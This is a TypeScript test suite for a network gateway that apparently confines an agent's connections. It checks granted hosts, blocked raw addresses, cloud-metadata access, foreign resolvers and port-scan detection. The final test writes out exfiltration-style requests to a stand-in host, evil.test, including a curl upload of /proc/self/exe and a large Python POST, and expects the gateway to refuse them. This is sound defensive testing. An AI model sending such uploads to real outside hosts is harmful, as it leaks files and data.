import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { test, type TestContext } from "node:test";
import { AGENT, openWorld, type World } from "./test-kit.ts";

const GRANTS = `  - { system: http, name: docs, hosts: [docs.test], ports: [443, 8443], dial: "127.0.0.1:9", allow: [{ methods: [GET], paths: ["/**"] }] }\n`;

async function world(t: TestContext): Promise<World> {
  const it = await openWorld({ grants: GRANTS });
  t.after(() => it.close());
  return it;
}

// What it connects to (a name stands for its pool address), by what, port, errno, denials, findings.
const CASES: readonly (readonly [
  string,
  string,
  "tcp" | "udp" | "icmp" | "other",
  number,
  string | 0,
  number,
  readonly string[],
])[] = [
  ["a granted name and port", "docs.test", "tcp", 443, 0, 0, []],
  ["its other granted port", "docs.test", "tcp", 8443, 0, 0, []],
  ["a port that is not granted does not look open", "docs.test", "tcp", 22, "ECONNREFUSED", 1, []],
  ["an ungranted name on 443 is accepted to be told why", "evil.test", "tcp", 443, 0, 0, []],
  ["and on 80", "evil.test", "tcp", 80, 0, 0, []],
  ["elsewhere it is refused", "evil.test", "tcp", 22, "ECONNREFUSED", 1, []],
  ["a raw address on 443", "93.184.216.34", "tcp", 443, "EACCES", 1, []],
  ["a raw address on 80", "2606:4700::1111", "tcp", 80, "EACCES", 1, []],
  ["a raw address in IPv6 dress", "::ffff:10.0.0.5", "tcp", 22, "EACCES", 1, []],
  ["a pool address that stands for nothing", "198.18.77.77", "tcp", 443, "EACCES", 1, []],
  ["the namespace's own address", "10.255.0.2", "tcp", 8080, "EACCES", 1, []],
  ["cloud metadata", "169.254.169.254", "tcp", 80, "EACCES", 1, ["metadata"]],
  ["the run's own loopback", "127.0.0.1", "tcp", 3000, 0, 0, []],
  ["all of it", "127.8.9.10", "udp", 5353, 0, 0, []],
  ["over IPv6", "::1", "tcp", 3000, 0, 0, []],
  ["the unspecified address, which Linux takes for it", "0.0.0.0", "tcp", 3000, 0, 0, []],
  ["the run's resolver", "10.255.0.53", "udp", 53, 0, 0, []],
  ["the run's resolver over TCP", "10.255.0.53", "tcp", 53, 0, 0, []],
  ["another resolver", "8.8.8.8", "udp", 53, "EACCES", 1, ["resolver"]],
  ["another resolver over TCP", "8.8.8.8", "tcp", 53, "EACCES", 1, ["resolver"]],
  ["a name's port 53", "docs.test", "udp", 53, "ECONNREFUSED", 1, ["resolver"]],
  ["UDP to a raw address", "93.184.216.34", "udp", 443, "EACCES", 1, []],
  ["libc sorting a name's addresses sends nothing", "docs.test", "udp", 443, 0, 0, []],
  ["ICMP", "93.184.216.34", "icmp", 0, "EACCES", 1, []],
  ["any other protocol, even to a granted name", "docs.test", "other", 443, "ECONNREFUSED", 1, []],
];
for (const [why, to, transport, port, errno, denials, findings] of CASES) {
  test(`INV-1: connect is ${errno === 0 ? "let on" : `answered ${errno}`}: ${why}`, async (t) => {
    const it = await world(t);
    const address = to.endsWith(".test") ? it.addressOf(to) : to;
    const judgement = it.gateway.judgeConnect({ address, port }, transport, AGENT);
    assert.equal(judgement.errno, errno);
    assert.equal(judgement.host, to.endsWith(".test") ? to : undefined);
    assert.equal(it.denials.length, denials);
    assert.ok(it.denials.every((denial) => denial.process === AGENT));
    assert.deepEqual(
      it.findings.map((finding) => finding.kind),
      findings,
    );
    assert.equal(it.gateway.stats().refused[transport], denials);
    const [denial] = it.denials;
    if (port === 53 && denial !== undefined) assert.equal(denial.rule, "resolver");
  });
}

test("a sweep is one finding, with the process; what a build does by itself is none", async (t) => {
  const it = await world(t);
  for (let n = 1; n < 30; n += 1) {
    it.gateway.judgeConnect(
      { address: it.addressOf(`telemetry${n}.test`), port: 443 },
      "tcp",
      AGENT,
    );
    it.gateway.judgeConnect({ address: it.addressOf("docs.test"), port: 443 }, "udp", AGENT);
  }
  assert.equal(it.findings.length, 0);
  for (let n = 1; n < 30; n += 1) {
    it.gateway.judgeConnect({ address: `10.0.0.${n}`, port: 22 }, "tcp", AGENT);
  }
  assert.deepEqual(
    it.findings.map((finding) => finding.kind),
    ["scan"],
  );
  assert.equal(it.findings[0]?.of.process, AGENT);
  assert.match(
    it.findings[0]?.detail ?? "",
    /5 distinct destinations refused within 60 s, 5 of them internal/,
  );
});

test("INV-27: packets that nobody announced are denials with their number, and addresses among them a scan", async (t) => {
  const it = await world(t);
  const udp = (address: string, port: number, count: number) =>
    it.gateway.refusedUnheard({ transport: "udp", count, to: { address, port } });
  for (let n = 1; n <= 20; n += 1) udp(it.addressOf(`site-${n}.test`), 443, 3);
  assert.equal(it.findings.length, 0, "a client of QUIC tries every name that it is given");
  udp("169.254.169.254", 80, 1);
  for (let n = 1; n <= 4; n += 1) udp(`10.0.0.${n}`, 161, 5);
  it.gateway.refusedUnheard({ transport: "udp", count: 700 });
  it.gateway.refusedUnheard({ transport: "icmp", count: 1, process: AGENT });
  assert.deepEqual(
    it.findings.map((finding) => finding.kind),
    ["metadata", "scan"],
  );
  const sum = it.denials.reduce((all, { count }) => all + (count ?? 1), 0);
  assert.equal(sum, 20 * 3 + 1 + 4 * 5 + 700 + 1);
  assert.equal(it.denials.find(({ target }) => target === "10.0.0.1")?.count, 5);
  assert.deepEqual(it.gateway.stats().refused, { tcp: 0, udp: sum - 1, icmp: 1, other: 0 });
  assert.equal(it.denials.at(-1)?.process, AGENT, "where the filter held it, its process is known");
});

test("INV-22: tries of one target differ by route, repetitions and families do not", async (t) => {
  const it = await world(t);
  const routes = (family: 4 | 6, port: number) =>
    it.gateway.judgeConnect({ address: it.addressOf("evil.test", family), port }, "tcp", AGENT);
  for (const port of [22, 22, 2222]) for (const family of [4, 6] as const) routes(family, port);
  assert.equal(it.denials.length, 6);
  assert.equal(new Set(it.denials.map((denial) => denial.target)).size, 1);
  assert.equal(new Set(it.denials.map((denial) => denial.route)).size, 2);
});

test("curl, Python and Node speak through it unmodified, and read why they may not", async (t) => {
  const it = await world(t);
  const port = await it.listenerFor("evil.test", 80);
  const run = (file: string, ...args: string[]) =>
    new Promise<string>((resolve) => {
      execFile(file, args, (_error, stdout, stderr) => resolve(stdout + stderr));
    });
  const url = "http://evil.test/x";
  const python = `import http.client
c = http.client.HTTPConnection("127.0.0.1", ${port})
c.request("POST", "/x", body=b"y" * 300000, headers={"Host": "evil.test"})
print(c.getresponse().read().decode())`;
  const node = `const r = await new Promise((ok) => require("node:http").get({ port: ${port}, host: "127.0.0.1", path: "/x", headers: { host: "evil.test" } }, ok));
let t = ""; for await (const c of r) t += c; console.log(t)`;
  const said = await Promise.all([
    run("curl", "-sS", "--connect-to", `evil.test:80:127.0.0.1:${port}`, url),
    run(
      "curl",
      "-sS",
      "--connect-to",
      `evil.test:80:127.0.0.1:${port}`,
      "-F",
      "f=@/proc/self/exe",
      url,
    ),
    run("python3", "-c", python),
    run(process.execPath, "-e", `(async () => { ${node} })()`),
  ]);
  for (const text of said)
    assert.match(text, /"title":"Nothing is granted for this name","status":403/);
});
